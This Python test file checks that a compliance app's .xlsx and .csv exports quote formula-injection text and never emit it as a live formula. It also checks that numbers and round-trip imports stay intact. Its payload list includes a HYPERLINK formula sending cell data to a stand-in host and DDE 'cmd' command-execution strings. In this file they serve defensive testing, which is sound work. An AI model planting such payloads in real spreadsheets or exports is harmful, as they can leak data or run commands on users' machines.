"""Formula (CSV) injection in exports: text that a spreadsheet would run (``=HYPERLINK(...)``, ``=cmd|...``,
``+``, ``-``, ``@``, tab, CR) never comes out as a live formula, in every .xlsx and .csv export; numbers stay
numbers; an export imported again gives the same records (the importer strips exactly the quote it added).

Issue 17 item 6; OWASP CSV Injection (https://owasp.org/www-community/attacks/CSV_Injection); OWASP ASVS 4.0.3 V5.3.
"""
from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import delete

from cmsflow.core.db import session_scope
from cmsflow.core.exports import TRIGGERS, append_row, safe_cell, unquote_cell
from cmsflow.registers.models import RegisterClause
from cmsflow.registers.specs import SPECS
from tests.assets.conftest import ledger, ok  # noqa: F401 - fixture
from tests.conftest import signed_in
from tests.registers.test_registers import sample

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "'=already quoted", "''=twice quoted",
            "\t=1+1", "\r=1+1"]


def _dangerous(value) -> bool:
    """Text a spreadsheet reads as a formula: starts with a trigger and is not just a number like -5."""
    return (isinstance(value, str) and value.startswith(TRIGGERS)
            and not re.fullmatch(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?", value))


def _xlsx_cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))  # not read-only: data_type tells whether a cell is a formula
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def _assert_no_formula_xlsx(data: bytes) -> list[str]:
    texts = []
    for cell in _xlsx_cells(data):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        assert not _dangerous(cell.value), (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            texts.append(cell.value)
    return texts


@pytest.mark.parametrize("value", PAYLOADS + ["", "普通文本", "a=b", "'plain", "'", "5", "-5", "-12.5", "+3", "1e-3"])
def test_safe_cell_quotes_formula_text_and_unquote_reverses_it(value):
    out = safe_cell(value)
    assert not _dangerous(out)
    assert unquote_cell(out) == value
    if value in ("-5", "-12.5", "+3", "5", "1e-3"):  # a plain number cannot run anything: left as it is
        assert out == value


@pytest.mark.parametrize("value", [-5, 0, 3.25, Decimal("-12.5"), None, True])
def test_numbers_and_non_text_are_never_touched(value):
    assert safe_cell(value) is value
    wb = Workbook()
    append_row(wb.active, [value])
    cell = wb.active["A1"]
    assert cell.value == value
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        assert cell.data_type == "n"


def test_a_quote_the_user_typed_is_kept_on_import():
    assert unquote_cell("'abc") == "'abc"  # not added by the exporter: nothing to strip
    assert unquote_cell("'-5") == "'-5"


def _create_hostile_records(mr) -> list[dict]:
    created = []
    for i, payload in enumerate(PAYLOADS):
        body = {**sample("communication", i), "party": payload, "topic": f"{payload}-议题", "channel": "@channel",
                "summary": payload}
        res = mr.post("/registers/communication", json=body)
        assert res.status_code == 201, (payload, res.get_json())
        created.append({k: v for k, v in res.get_json().items() if k not in ("id", "lock_version")})
    return created


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_register_export_has_no_live_formula_and_round_trips(app, api, fmt):
    mr = api("mr")
    created = _create_hostile_records(mr)
    exported = mr.get("/registers/communication/export", query_string={"format": fmt})
    assert exported.status_code == 200
    if fmt == "xlsx":
        texts = _assert_no_formula_xlsx(exported.data)
    else:
        rows = list(csv.reader(io.StringIO(exported.data.decode("utf-8-sig"))))
        texts = [v for row in rows for v in row]
        assert not [v for v in texts if _dangerous(v)]
    assert "'" + PAYLOADS[0] in texts and "'=cmd|' /C calc'!A0" in texts
    with app.app_context(), session_scope() as s:
        s.execute(delete(SPECS["communication"].model))
        s.execute(delete(RegisterClause).where(RegisterClause.register_name == "communication"))
    res = mr.post("/registers/communication/import", content_type="multipart/form-data",
                  data={"file": (io.BytesIO(exported.data), f"communication.{fmt}")})
    assert res.status_code == 201, res.get_json()
    again = [{k: v for k, v in r.items() if k not in ("id", "lock_version")}
             for r in mr.get("/registers/communication").get_json()["records"]]
    key = lambda r: r["summary"]  # noqa: E731
    assert sorted(again, key=key) == sorted(created, key=key)


def test_nonconformity_export_has_no_live_formula(api):
    auditor = api("auditor")
    res = auditor.post("/nonconformities", json={
        "title": PAYLOADS[0], "source": "internal_audit", "department": "PRD", "severity": "minor",
        "clauses": ["DB44T1944:9.1"], "description": "=cmd|' /C calc'!A0", "evidence": "@SUM(1+1)"})
    assert res.status_code == 201, res.get_json()
    data = api("mr").get("/nonconformities/export").data
    texts = _assert_no_formula_xlsx(data)
    assert "'" + PAYLOADS[0] in texts


def test_asset_export_has_no_live_formula_and_numbers_stay_numbers(api, ledger):  # noqa: F811
    ok(ledger(kind="allocation", lot="CEA-2025", quantity="1200", account="REG"))
    ok(ledger(kind="purchase", lot="CEA-2025", quantity="300", account="TRD", price="65",
              counterparty=PAYLOADS[0], note="-2+3+cmd|' /C calc'!A0"))
    data = api("staff_prd").get("/assets/export.xlsx").data
    texts = _assert_no_formula_xlsx(data)
    assert "'" + PAYLOADS[0] in texts and "'-2+3+cmd|' /C calc'!A0" in texts
    holdings = load_workbook(io.BytesIO(data))["持仓"]
    quantities = [r[4] for r in holdings.iter_rows(min_row=2, values_only=True)]
    assert 1200 in quantities and all(isinstance(q, int | float) for q in quantities)


def test_coverage_export_has_no_live_formula(app, org):
    from cmsflow.standards import service as standards

    with app.app_context(), session_scope() as s:
        rows = standards.coverage(s, "DB44T1944")
        rows[0].evidence.append(standards.Evidence(kind="document", id=1, label=PAYLOADS[0], url="/x"))
        rows[0].total += 1
        data = standards.coverage_xlsx("DB44T1944", rows)
    texts = _assert_no_formula_xlsx(data)
    assert any(t.startswith("'" + PAYLOADS[0]) for t in texts)
    # and the page export still answers
    assert signed_in(app, org["mr"]).get("/standards/DB44T1944/coverage.xlsx").status_code == 200
